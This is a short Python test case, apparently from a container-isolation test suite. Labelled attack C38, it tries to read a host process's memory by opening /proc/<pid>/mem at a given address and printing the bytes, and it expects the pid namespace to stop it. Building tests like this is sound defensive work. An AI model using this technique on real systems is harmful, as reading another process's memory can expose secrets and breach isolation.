# SPDX-License-Identifier: Apache-2.0
# attack: C38
# title: read the memory of a process of the host through /proc
# backends: docker, process
# expect: completed exit
# layers: pid namespace
# evidence: token
# control docker: processes
# control process: none
import os

print(os.environ["TRIED"], flush=True)
with open(f"/proc/{os.environ['SENTINEL']}/mem", "rb", 0) as memory:
    memory.seek(int(os.environ["ADDRESS"]))
    print(memory.read(32))
